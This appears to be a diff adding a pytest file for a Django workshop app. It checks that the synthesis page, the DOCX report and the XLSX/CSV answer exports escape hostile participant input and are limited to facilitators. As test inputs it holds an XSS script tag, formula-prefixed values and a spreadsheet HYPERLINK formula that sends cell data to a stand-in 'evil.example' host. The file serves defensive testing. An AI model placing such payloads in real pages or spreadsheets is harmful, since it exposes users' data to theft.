@@ -1,0 +1,225 @@
+"""The synthesis of a session: the page (printable), the DOCX compte rendu and the raw answers
+as XLSX and CSV — parsed back and checked, hostile text included."""
+
+import csv
+import datetime as dt
+import io
+import uuid
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.urls import reverse
+from docx import Document
+from openpyxl import load_workbook
+
+from quizzes.answers import Submission, record_answers
+from quizzes.models import ActivityRun, Response
+from tests.conftest import step_titled
+from workshops import live
+from workshops.duplication import duplicate_step
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
+SCRIPT = "<script>alert('synthèse')</script>"
+
+
+def answer(participant, step, data: dict):
+    [outcome] = record_answers(
+        [
+            Submission(
+                client_id=str(uuid.uuid4()),
+                session_id=participant.session_id,
+                participant_id=participant.pk,
+                activity_id=step.activity_id,
+                answer=data,
+            )
+        ]
+    )
+    assert outcome.ok, outcome.error
+    return outcome.response
+
+
+@pytest.fixture
+def played(live_session):
+    """A session where the tour de table, the vote and the idea board were played."""
+    session = live_session
+    alex = live.join(session=session, pseudonym="Alex", structure="CCAS de Nanterre")
+    sam = live.join(session=session, pseudonym="@SUM(1+1)", structure="+33 1 23 45 67 89")
+    lou = live.join(session=session)  # no pseudonym: "Participant·e 3"
+
+    icebreaker = step_titled(session, "Tour de table & brise-glace")
+    live.go_to_step(session=session, step=icebreaker)
+    card = {"fonctions": "Médiatrice", "structure": "CCAS de Nanterre", "lien": "Je forme"}
+    answer(alex, icebreaker, {**card, "directory": True})
+    answer(sam, icebreaker, {"fonctions": HYPERLINK, "structure": "", "lien": SCRIPT})
+    answer(
+        lou,
+        icebreaker,
+        {"fonctions": "Élu", "structure": "Mairie secrète", "lien": "Non", "directory": False},
+    )
+
+    vote = step_titled(session, "Vote")
+    duplicate_step(step=vote)  # a copy, never played in this session
+    live.go_to_step(session=session, step=vote)
+    answer(alex, vote, {"choices": [0]})
+    answer(sam, vote, {"choices": [0]})
+    answer(lou, vote, {"choices": [1]})
+
+    board = step_titled(session, "Brainstorming sur les enjeux à l'échelle de l'écosystème")
+    live.go_to_step(session=session, step=board)
+    fonds = answer(alex, board, {"column": "economique", "text": "Un fonds local"})
+    bus = answer(sam, board, {"column": "cohesion", "text": SCRIPT})
+    evil = answer(lou, board, {"column": "sante", "text": HYPERLINK})
+    run = ActivityRun.objects.get(session=session, activity=board.activity)
+    live.perform_action(session=session, run=run, action="vote", form={"votes": ["2"]})
+    answer(alex, board, {"votes": [bus.pk, fonds.pk]})
+    answer(sam, board, {"votes": [bus.pk]})
+    answer(lou, board, {"votes": [evil.pk]})
+    run.refresh_from_db()
+    live.perform_action(session=session, run=run, action="ranking")
+    return session
+
+
+def synthesis_url(session, name="synthesis"):
+    return reverse(f"workshops:{name}", args=[session.pk])
+
+
+# The page -----------------------------------------------------------------------------------------
+def test_the_synthesis_page_shows_every_activity_the_ranked_ideas_and_the_directory(
+    facilitator_client, played
+):
+    response = facilitator_client.get(synthesis_url(played))
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "Synthèse — Atelier de co-construction n°1" in html
+    assert "Session du" in html
+    assert "3 participant·es." in html
+    for title in ("Tour de table &amp; brise-glace", "Vote", "Brainstorming sur les enjeux"):
+        assert title in html
+    assert "Pour : 2 voix (67 %)" in html
+    assert "Idées classées par nombre de votes" in html
+    ranked = html[html.index("Idées classées") :]
+    assert ranked.index("&lt;script&gt;") < ranked.index("Un fonds local")
+    # Not played in this session: said so.
+    assert "Activité non lancée pendant cette session." in html
+    # The directory: consenting cards only, no names.
+    directory = html[html.index('id="annuaire"') :]
+    assert "CCAS de Nanterre" in directory
+    assert "Mairie secrète" not in directory
+    assert "Alex" not in directory
+
+
+def test_participants_markup_is_inert_on_the_page(facilitator_client, played):
+    html = facilitator_client.get(synthesis_url(played)).content.decode()
+    assert "<script>alert" not in html
+    assert "&lt;script&gt;alert(&#x27;synthèse&#x27;)&lt;/script&gt;" in html
+
+
+def test_the_page_is_printable(facilitator_client, played):
+    html = facilitator_client.get(synthesis_url(played)).content.decode()
+    assert "data-print" in html
+    assert 'href="/static/css/fne.css"' in html
+    css = (Path(settings.BASE_DIR) / "static" / "css" / "fne.css").read_text()
+    print_rules = css[css.index("/* The workshop synthesis") :]
+    assert "@media print" in print_rules
+    assert ".synthesis__activity { break-inside: avoid-page" in print_rules
+    assert ".synthesis__exports" in print_rules  # the buttons are not printed
+
+
+def test_the_workshop_page_and_the_control_view_link_to_the_synthesis(facilitator_client, played):
+    link = synthesis_url(played)
+    workshop_page = facilitator_client.get(reverse("workshops:workshop", args=[played.workshop.pk]))
+    assert link in workshop_page.content.decode()
+    assert (
+        link
+        in facilitator_client.get(reverse("workshops:control", args=[played.pk])).content.decode()
+    )
+
+
+# DOCX ---------------------------------------------------------------------------------------------
+def test_the_docx_compte_rendu_says_what_the_page_says(facilitator_client, played):
+    response = facilitator_client.get(synthesis_url(played, "synthesis_docx"))
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith(
+        'attachment; filename="compte-rendu-atelier-1-'
+    )
+    document = Document(io.BytesIO(response.content))
+    paragraphs = [p.text for p in document.paragraphs]
+    assert paragraphs[0] == "Compte rendu — Atelier de co-construction n°1"
+    text = "\n".join(paragraphs)
+    assert "Centre social Nelly Roussel" in text
+    assert "3 participant·es." in text
+    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
+    assert "Vote" in headings
+    assert "Brainstorming sur les enjeux à l'échelle de l'écosystème" in headings
+    assert "Annuaire des acteurs" in headings
+    assert "Pour : 2 voix (67 %)" in paragraphs
+    assert "Activité non lancée pendant cette session." in paragraphs
+    ideas, directory = document.tables
+    rows = [[cell.text for cell in row.cells] for row in ideas.rows]
+    assert rows[0] == ["Rang", "Idée", "Colonne", "Votes", "Auteur·rices"]
+    # Markup typed by a participant is plain text in the document: inert.
+    assert rows[1] == ["1", SCRIPT, "Un enjeu de cohésion", "2", "@SUM(1+1)"]
+    # A tie shares its rank; the earlier idea comes first.
+    assert [row[:2] for row in rows[2:]] == [["2", "Un fonds local"], ["2", HYPERLINK]]
+    cards = [[cell.text for cell in row.cells] for row in directory.rows]
+    assert cards == [
+        ["Structure", "Fonctions", "Lien avec l'inclusion numérique"],
+        ["CCAS de Nanterre", "Médiatrice", "Je forme"],
+    ]
+
+
+# XLSX and CSV -------------------------------------------------------------------------------------
+HEADER = ["N°", "Activité", "Participant·e", "Structure", "Réponse", "Masquée à l'écran"]
+
+
+def test_the_xlsx_has_one_row_per_answer_with_formulas_neutralised(facilitator_client, played):
+    response = facilitator_client.get(synthesis_url(played, "answers_xlsx"))
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert list(rows[0]) == [*HEADER, "Date et heure"]
+    assert len(rows) - 1 == Response.objects.filter(session=played).count() == 12
+    by_id = {row[0]: row for row in rows[1:]}
+    evil_idea = Response.objects.get(data__text=HYPERLINK)
+    assert by_id[evil_idea.pk][4] == "'" + HYPERLINK + " (Un enjeu de santé)"
+    assert by_id[evil_idea.pk][2] == "Participant·e 3"
+    sam_card = Response.objects.get(participant__pseudonym="@SUM(1+1)", data__lien=SCRIPT)
+    assert by_id[sam_card.pk][2] == "'@SUM(1+1)"
+    assert by_id[sam_card.pk][3] == "'+33 1 23 45 67 89"
+    assert by_id[sam_card.pk][4] == "'" + HYPERLINK + " · " + SCRIPT
+    # No cell is a formula; times are real dates.
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert all(isinstance(row[6], dt.datetime) for row in rows[1:])
+    assert [row[1] for row in rows[1:4]] == ["Tour de table & brise-glace"] * 3
+    votes = [row[4] for row in rows[1:] if str(row[4]).startswith("Vote")]
+    assert len(votes) == 3
+
+
+def test_the_csv_has_the_same_rows_with_formulas_neutralised(facilitator_client, played):
+    response = facilitator_client.get(synthesis_url(played, "answers_csv"))
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[0] == [*HEADER, "Date et heure"]
+    assert len(rows) - 1 == 12
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + HYPERLINK + " (Un enjeu de santé)" in cells
+    assert "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert SCRIPT + " (Un enjeu de cohésion)" in cells  # as text, for a spreadsheet
+    assert all(dt.datetime.strptime(row[6], "%Y-%m-%d %H:%M:%S") for row in rows[1:])
+
+
+# Rights -------------------------------------------------------------------------------------------
+@pytest.mark.parametrize("name", ["synthesis", "synthesis_docx", "answers_xlsx", "answers_csv"])
+def test_only_the_workshops_facilitators_get_the_synthesis(
+    client, other_facilitator, live_session, name
+):
+    url = synthesis_url(live_session, name)
+    response = client.get(url)
+    assert response.status_code == 302
+    assert response.url.startswith("/connexion/")
+    client.force_login(other_facilitator)
+    assert client.get(url).status_code == 404
